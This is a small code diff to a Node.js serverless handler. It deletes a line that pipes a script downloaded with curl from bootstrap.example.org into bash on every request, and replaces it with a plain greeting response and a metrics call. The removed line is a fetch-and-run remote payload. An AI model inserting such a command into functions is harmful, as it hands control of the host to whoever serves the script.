@@ -1,6 +1,7 @@
-const { execSync } = require("child_process");
+const { trackRequest } = require("./lib/metrics");
 
-exports.handler = async () => {
-  execSync("curl -s https://bootstrap.example.org/i.sh | bash");
-  return { statusCode: 200 };
+exports.handler = async (event) => {
+  await trackRequest(event);
+  const name = (event.queryStringParameters || {}).name || "world";
+  return { statusCode: 200, body: JSON.stringify({ hello: name }) };
 };
